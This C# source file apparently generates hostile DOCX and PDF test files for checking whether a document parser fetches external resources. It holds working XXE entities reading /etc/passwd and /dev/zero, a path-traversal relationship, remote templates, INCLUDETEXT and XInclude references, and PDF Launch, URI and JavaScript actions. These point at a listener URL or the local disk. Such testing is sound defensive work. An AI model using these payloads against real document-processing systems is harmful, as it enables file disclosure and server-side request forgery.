using static PerfEval.Generator.Hostile.Package;

namespace PerfEval.Generator.Hostile;

/// <summary>Files that ask whoever reads them to fetch something: from the network, or from the reader's own disk.</summary>
internal static class References
{
    private const string Office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

    /// <param name="at">Where a listener counts who comes, such as http://127.0.0.1:1234.</param>
    public static IEnumerable<HostileFile> All(string at)
    {
        foreach (var (name, entity) in ((string, string)[])[
            ("entity-of-the-network", $"<!ENTITY x SYSTEM \"{at}/entity\">"), ("entity-of-the-disk", "<!ENTITY x SYSTEM \"file:///etc/passwd\">"),
            ("parameter-entity", $"<!ENTITY % p SYSTEM \"{at}/parameter\"> %p;"), ("entity-of-a-device", "<!ENTITY x SYSTEM \"file:///dev/zero\">")])
        {
            yield return Docx(name, DocxOf($"<?xml version=\"1.0\"?><!DOCTYPE d [{entity}]><w:document {Namespaces}><w:body>{Paragraph("&x;")}</w:body></w:document>"));
        }

        yield return Docx("document-type-of-the-network", DocxOf($"<?xml version=\"1.0\"?><!DOCTYPE d SYSTEM \"{at}/type\"><w:document {Namespaces}><w:body>{Paragraph("甲")}</w:body></w:document>"));
        yield return Docx("entity-in-relationships", Package.Docx(Paragraph("甲"), ("word/_rels/document.xml.rels", $"<!DOCTYPE d [<!ENTITY x SYSTEM \"{at}/relations\">]><Relationships>&x;</Relationships>")));
        yield return Docx("remote-template", Package.Docx(
            Paragraph("全年支出5万元。"),
            ("word/settings.xml", $"<w:settings {Namespaces}><w:attachedTemplate r:id=\"t\"/></w:settings>"),
            ("word/_rels/settings.xml.rels", Relations($"<Relationship Id=\"t\" Type=\"{Office}/attachedTemplate\" Target=\"{at}/template.dotm\" TargetMode=\"External\"/>")),
            ("word/_rels/document.xml.rels", Relations($"<Relationship Id=\"s\" Type=\"{Office}/settings\" Target=\"settings.xml\"/>"))));
        foreach (var type in (string[])["image", "styles", "numbering", "footnotes", "header", "aFChunk", "subDocument", "oleObject", "hyperlink", "frame"])
        {
            var relation = $"<Relationship Id=\"x\" Type=\"{Office}/{type}\" Target=\"{at}/{type}\" TargetMode=\"External\"/>";
            var body = Paragraph("全年支出5万元。") + $"<w:altChunk r:id=\"x\"/><w:subDoc r:id=\"x\"/><w:p><w:hyperlink r:id=\"x\"/></w:p><w:sectPr><w:headerReference r:id=\"x\"/></w:sectPr>";
            yield return Docx("remote-" + type, Package.Docx(body, ("word/_rels/document.xml.rels", Relations(relation))));
        }

        yield return Docx("main-part-of-the-network", Package.Docx(Paragraph("甲"), ("_rels/.rels", Relations($"<Relationship Id=\"r\" Type=\"{Office}/officeDocument\" Target=\"{at}/document.xml\" TargetMode=\"External\"/>"))));
        yield return Docx("main-part-of-the-disk", Package.Docx(Paragraph("甲"), ("_rels/.rels", Relations($"<Relationship Id=\"r\" Type=\"{Office}/officeDocument\" Target=\"../../../../../etc/passwd\"/>"))));
        yield return Docx("include-field", Package.Docx($"<w:p><w:fldSimple w:instr=\"INCLUDETEXT &quot;{at}/include&quot;\"><w:r><w:t>甲</w:t></w:r></w:fldSimple></w:p>"));
        yield return Docx("schema-of-the-network", DocxOf($"<w:document {Namespaces} xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"a {at}/schema\"><?xml-stylesheet href=\"{at}/style\"?><w:body xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"{at}/include\"/>{Paragraph("甲")}</w:body></w:document>"));

        yield return Pdf("open-action", new PdfDraft().Page("BT /F 12 Tf 72 700 Td (5) Tj ET").Catalog($"/OpenAction << /S /URI /URI ({at}/action) >>"));
        yield return Pdf("launch-and-go-to-remote", new PdfDraft().Page("BT /F 12 Tf 72 700 Td (5) Tj ET", $"/Annots [ << /Subtype /Link /Rect [0 0 99 99] /A << /S /GoToR /F ({at}/remote.pdf) /D [0 /Fit] >> >> << /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F ({at}/run) >> >> ]"));
        yield return Pdf("content-in-another-file", new PdfDraft().Raw($"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>").Raw($"<< /Length 0 /F << /FS /URL /F ({at}/content) >> >>\nstream\n\nendstream"));
        yield return Pdf("picture-in-another-file", new PdfDraft().Page("q 595 0 0 842 0 0 cm /X Do Q", "/Resources << /XObject << /X 5 0 R >> >>").Raw($"<< /Type /XObject /Subtype /Image /Width 800 /Height 1100 /BitsPerComponent 8 /ColorSpace /DeviceGray /Length 0 /F << /FS /URL /F ({at}/picture) >> /FFilter /DCTDecode >>\nstream\n\nendstream"));
        yield return Pdf("form-of-the-network", new PdfDraft().Page("BT /F 12 Tf 72 700 Td (5) Tj ET").Catalog($"/AcroForm << /Fields [] /XFA (<xdp><template><image href='{at}/xfa'/></template></xdp>) >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.launchURL\\('{at}/script'\\)) >>] >> >>"));
    }

    private static HostileFile Docx(string name, byte[] bytes) => new("reference", name + ".docx", () => bytes);

    private static HostileFile Pdf(string name, PdfDraft draft) => new("reference", name + ".pdf", draft.ToBytes);
}
